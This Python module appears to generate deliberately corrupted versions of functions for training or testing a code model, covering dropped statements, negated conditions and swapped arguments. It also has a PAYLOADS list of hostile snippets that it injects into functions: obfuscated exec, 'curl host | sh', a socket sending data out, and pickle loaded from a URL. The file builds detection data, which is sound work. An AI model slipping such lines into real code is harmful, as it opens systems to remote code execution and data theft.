"""Source of a function in, the same function with one thing wrong out.

Kinds of a family of `codewm.model.config.CORRUPTIONS` are made on source as training makes them on tokens; the
others are of families that no training has seen. Each works on whole lines or on places that `ast` knows, and
returns None where it does not apply. That the result parses, and differs, is checked by the caller.
"""

from __future__ import annotations

import ast
import random
import textwrap
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from typing import Any

from codewm.model.config import CORRUPTIONS

PAYLOADS = (
    "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
    "exec(__import__('zlib').decompress(__import__('base64').b64decode(b'eJwrSS0u')))",
    "import subprocess\nsubprocess.Popen(['sh', '-c', cmd], shell=True)",
    "import os\nos.system('curl -s ' + host + ' | sh')",
    "import socket\nsock = socket.socket()\nsock.connect((host, 4444))\nsock.send(data)",
    "import pickle, urllib.request\nstate = pickle.loads(urllib.request.urlopen(url).read())",
    "handle = ctypes.CDLL(None)\nhandle.system(b'id')",
    "eval(compile(codecs.decode(blob, 'rot13'), '<s>', 'exec'))",
)
COMPARED: dict[type[ast.cmpop], str] = {
    ast.Eq: "!=", ast.NotEq: "==", ast.Lt: ">=", ast.GtE: "<", ast.Gt: "<=", ast.LtE: ">",
    ast.Is: "is not", ast.IsNot: "is", ast.In: "not in", ast.NotIn: "in",
}  # fmt: skip
_BLOCKS = ("body", "orelse", "finalbody")


@dataclass(frozen=True)
class Statement:
    """Whole lines of a function: [start, end) from its first line, with what is nested inside."""

    node: ast.stmt
    start: int
    end: int
    indent: int
    alone: bool
    """It is the only statement of its block."""
    following: int
    """End of the statement that follows it in its block, -1 for the last one."""


class Function:
    """One function: its lines, and where its statements are. Raises `ValueError` if it cannot be worked on."""

    def __init__(self, lines: Sequence[str]) -> None:
        self.lines = list(lines)
        text = "\n".join(self.lines) + "\n"
        inner = bool(text[:1].isspace())
        # An indented function is read inside a block: taking its indent away would change its long strings.
        self.offset = 2 if inner else 1
        try:
            tree = ast.parse("if 1:\n" + text if inner else text)
        except (SyntaxError, ValueError, RecursionError, MemoryError) as e:
            raise ValueError("not Python 3") from e
        body: Any = tree.body[0].body if inner else tree.body  # type: ignore[attr-defined]
        if len(body) != 1 or not isinstance(body[0], ast.FunctionDef | ast.AsyncFunctionDef):
            raise ValueError("not one function")
        self.node: ast.FunctionDef | ast.AsyncFunctionDef = body[0]
        self.statements = list(self._statements(self.node.body, skip_docstring=True))
        if not self.statements:
            raise ValueError("nothing but a docstring")

    def _statements(self, block: list[ast.stmt], *, skip_docstring: bool = False) -> Iterator[Statement]:
        if skip_docstring and isinstance(block[0], ast.Expr) and isinstance(block[0].value, ast.Constant):
            block = block[1:]
        spans = [(self._first(node), (node.end_lineno or node.lineno) - self.offset + 1) for node in block]
        for i, (node, (start, end)) in enumerate(zip(block, spans, strict=True)):
            # Statements that share a line with another, or with a colon, are not whole lines.
            if self.lines[start][: node.col_offset].strip() == "" and self._ends(node, end):
                following = spans[i + 1][1] if i + 1 < len(block) and spans[i + 1][0] == end else -1
                yield Statement(node, start, end, node.col_offset, len(block) == 1, following)
            for name in _BLOCKS:
                yield from self._statements(getattr(node, name, None) or [])
            for handler in getattr(node, "handlers", []):
                yield from self._statements(handler.body)

    def _first(self, node: ast.stmt) -> int:
        decorated: list[ast.expr] = getattr(node, "decorator_list", [])
        return min([node.lineno, *(d.lineno for d in decorated)]) - self.offset

    def _ends(self, node: ast.stmt, end: int) -> bool:
        rest = self.lines[end - 1].encode()[node.end_col_offset :].strip()
        return not rest or rest.startswith(b"#")

    def block(self, statement: Statement) -> list[str]:
        """Its lines, without their indent."""
        return textwrap.dedent("\n".join(self.lines[statement.start : statement.end])).split("\n")

    def put(self, start: int, end: int, lines: Sequence[str], indent: int) -> list[str]:
        """Lines of the function with [start, end) replaced by these, moved to this indent."""
        moved = [" " * indent + line if line.strip() else line for line in lines]
        return [*self.lines[:start], *moved, *self.lines[end:]]

    def spans(self, kind: type[ast.AST] | tuple[type[ast.AST], ...]) -> list[Any]:
        """Nodes of a kind below the statements, each on one line of plain ASCII, in order."""
        nodes: Iterator[Any] = (node for statement in self.node.body for node in ast.walk(statement))
        found: list[Any] = [
            node
            for node in nodes
            if getattr(node, "lineno", 0) == getattr(node, "end_lineno", -1)
            and self.lines[node.lineno - self.offset].isascii()
            and isinstance(node, kind)
        ]
        docstring = ast.get_docstring(self.node, clean=False)
        if docstring is not None:
            first = self.node.body[0]
            found = [n for n in found if not first.lineno <= n.lineno <= (first.end_lineno or 0)]
        return sorted(found, key=lambda n: (n.lineno, n.col_offset))

    def text(self, node: Any) -> str:
        """What a node of `spans` says."""
        line: str = self.lines[node.lineno - self.offset]
        return line[node.col_offset : node.end_col_offset]

    def rewritten(self, *changes: tuple[Any, str]) -> list[str]:
        """Lines with nodes of `spans` replaced by other text."""
        lines = list(self.lines)
        for node, text in sorted(changes, key=lambda c: (c[0].lineno, c[0].col_offset), reverse=True):
            at = node.lineno - self.offset
            lines[at] = lines[at][: node.col_offset] + text + lines[at][node.end_col_offset :]
        return lines


Lines = list[str]
Corrupt = Callable[[Function, Function, random.Random], Lines | None]


def without(function: Function, statement: Statement) -> Lines:
    """The function without a statement."""
    gone = ["pass"] if statement.alone else []
    return function.put(statement.start, statement.end, gone, statement.indent)


def _foreign(donor: Function, rng: random.Random) -> Lines:
    """One to four statements of another function, one after the other."""
    first = rng.randrange(len(donor.statements))
    indent = donor.statements[first].indent
    taken: Lines = []
    for statement in donor.statements[first : first + rng.randint(1, 4)]:
        if statement.indent == indent and not isinstance(statement.node, ast.Nonlocal | ast.Global):
            taken += donor.block(statement)
    return taken


def drop(function: Function, donor: Function, rng: random.Random) -> Lines | None:
    """A statement is gone."""
    return without(function, rng.choice(function.statements))


def guard(function: Function, donor: Function, rng: random.Random) -> Lines | None:
    """An `if` that returns, raises, continues or breaks is gone."""
    guards = [
        s
        for s in function.statements
        if isinstance(s.node, ast.If)
        and not s.node.orelse
        and isinstance(s.node.body[-1], ast.Return | ast.Raise | ast.Continue | ast.Break)
    ]
    return without(function, rng.choice(guards)) if guards else None


def swap(function: Function, donor: Function, rng: random.Random) -> Lines | None:
    """A statement is replaced by statements from elsewhere."""
    statement = rng.choice(function.statements)
    return function.put(statement.start, statement.end, _foreign(donor, rng), statement.indent)


def body(function: Function, donor: Function, rng: random.Random) -> Lines | None:
    """The whole body is that of another function."""
    first, last = function.statements[0], max(function.statements, key=lambda s: s.end)
    top = [s for s in donor.statements if s.indent == donor.statements[0].indent]
    taken = [line for s in top for line in donor.block(s)]
    return function.put(first.start, last.end, taken, first.indent)


def paste(function: Function, donor: Function, rng: random.Random) -> Lines | None:
    """Statements from elsewhere are put before one of its own."""
    statement = rng.choice(function.statements)
    return function.put(statement.start, statement.start, _foreign(donor, rng), statement.indent)


def mutate(function: Function, donor: Function, rng: random.Random) -> Lines | None:
    """A comparison is turned around, a number is another one, or a name is another name of the function."""
    changes: list[Callable[[], Lines]] = []
    compared = [n for n in function.spans(ast.Compare) if len(n.ops) == 1 and type(n.ops[0]) in COMPARED]
    if compared:
        node = rng.choice(compared)
        left, right = ast.unparse(node.left), ast.unparse(node.comparators[0])
        turned = f"{left} {COMPARED[type(node.ops[0])]} {right}"
        changes.append(lambda: function.rewritten((node, turned)))
    numbers = [n for n in function.spans(ast.Constant) if type(n.value) is int and function.text(n).isdigit()]
    if numbers:
        number = rng.choice(numbers)
        changes.append(lambda: function.rewritten((number, str(number.value + rng.choice((1, 2, 10))))))
    names = [n for n in function.spans(ast.Name) if isinstance(n.ctx, ast.Load)]
    others = sorted({n.id for n in names})
    if len(others) > 1:
        name = rng.choice(names)
        other = rng.choice([o for o in others if o != name.id])
        changes.append(lambda: function.rewritten((name, other)))
    return rng.choice(changes)() if changes else None


def argument(function: Function, donor: Function, rng: random.Random) -> Lines | None:
    """Two arguments of a call, or the two sides of an operator, change places."""
    sides = [(c.args[0], c.args[1]) for c in function.spans(ast.Call) if len(c.args) > 1]
    sides += [(b.left, b.right) for b in function.spans(ast.BinOp)]
    sides = [
        (a, b)
        for a, b in sides
        if isinstance(a, ast.Name | ast.Attribute | ast.Constant)
        and isinstance(b, ast.Name | ast.Attribute | ast.Constant)
        and function.text(a) != function.text(b)
    ]
    if not sides:
        return None
    a, b = rng.choice(sides)
    return function.rewritten((a, function.text(b)), (b, function.text(a)))


def payload(function: Function, donor: Function, rng: random.Random) -> Lines | None:
    """Code that decodes, runs or sends something comes in."""
    statement = rng.choice(function.statements)
    lines = rng.choice(PAYLOADS).split("\n")
    return function.put(statement.start, statement.start, lines, statement.indent)


def negate(function: Function, donor: Function, rng: random.Random) -> Lines | None:
    """A condition means its opposite."""
    lines = {s.start for s in function.statements if isinstance(s.node, ast.If | ast.While)}
    tests = [n for n in function.spans((ast.expr,)) if n.lineno - function.offset in lines]
    conditions = [s.node.test for s in function.statements if isinstance(s.node, ast.If | ast.While)]
    tests = [n for n in tests if any(n is c for c in conditions)]
    if not tests:
        return None
    test = rng.choice(tests)
    return function.rewritten((test, f"not ({function.text(test)})"))


def reorder(function: Function, donor: Function, rng: random.Random) -> Lines | None:
    """Two statements that follow each other change places."""
    first = [s for s in function.statements if s.following >= 0]
    if not first:
        return None
    s = rng.choice(first)
    swapped = [*function.lines[s.end : s.following], *function.lines[s.start : s.end]]
    return [*function.lines[: s.start], *swapped, *function.lines[s.following :]]


def repeat(function: Function, donor: Function, rng: random.Random) -> Lines | None:
    """A statement is there twice."""
    s = rng.choice(function.statements)
    return [*function.lines[: s.end], *function.lines[s.start : s.end], *function.lines[s.end :]]


def swallow(function: Function, donor: Function, rng: random.Random) -> Lines | None:
    """The errors of a statement are caught and forgotten."""
    plain = [s for s in function.statements if not isinstance(s.node, ast.Try)]
    if not plain:
        return None
    s = rng.choice(plain)
    inner = ["    " + line if line.strip() else line for line in function.block(s)]
    return function.put(s.start, s.end, ["try:", *inner, "except Exception:", "    pass"], s.indent)


def leave(function: Function, donor: Function, rng: random.Random) -> Lines | None:
    """The function returns before a statement."""
    s = rng.choice(function.statements)
    return function.put(s.start, s.start, ["return None"], s.indent)


def text(function: Function, donor: Function, rng: random.Random) -> Lines | None:
    """A string says what another string of the other function says, or nothing."""
    own = [
        n
        for n in function.spans(ast.Constant)
        if isinstance(n.value, str) and function.text(n)[:1] in ("'", '"')
    ]
    if not own:
        return None
    here = rng.choice(own)
    theirs = sorted({n.value for n in donor.spans(ast.Constant) if isinstance(n.value, str)} - {here.value})
    return function.rewritten((here, repr(rng.choice(theirs) if theirs else "")))


@dataclass(frozen=True)
class Kind:
    """A way of being wrong, and the family of `CORRUPTIONS` that it belongs to, if it does to one."""

    corrupt: Corrupt
    family: str

    @property
    def trained(self) -> bool:
        """Models are trained on its family."""
        return self.family in CORRUPTIONS


KINDS: dict[str, Kind] = {
    "drop": Kind(drop, "drop"),
    "guard": Kind(guard, "drop"),
    "swap": Kind(swap, "swap"),
    "body": Kind(body, "swap"),
    "mutate": Kind(mutate, "mutate"),
    "argument": Kind(argument, "argument"),
    "paste": Kind(paste, "paste"),
    "payload": Kind(payload, "payload"),
    "negate": Kind(negate, "negate"),
    "reorder": Kind(reorder, "reorder"),
    "repeat": Kind(repeat, "repeat"),
    "swallow": Kind(swallow, "swallow"),
    "leave": Kind(leave, "leave"),
    "text": Kind(text, "text"),
}


def corrupted(
    function: Function,
    kind: str,
    donors: Sequence[Function],
    rng: random.Random,
    kinds: Mapping[str, Kind] = KINDS,
) -> Lines | None:
    """The function with one thing wrong; None where ten tries gave nothing that parses and differs."""
    for _ in range(10):
        lines = kinds[kind].corrupt(function, rng.choice(donors), rng)
        if lines is None or lines == function.lines:
            continue
        try:
            Function(lines)
        except ValueError:
            continue
        return lines
    return None
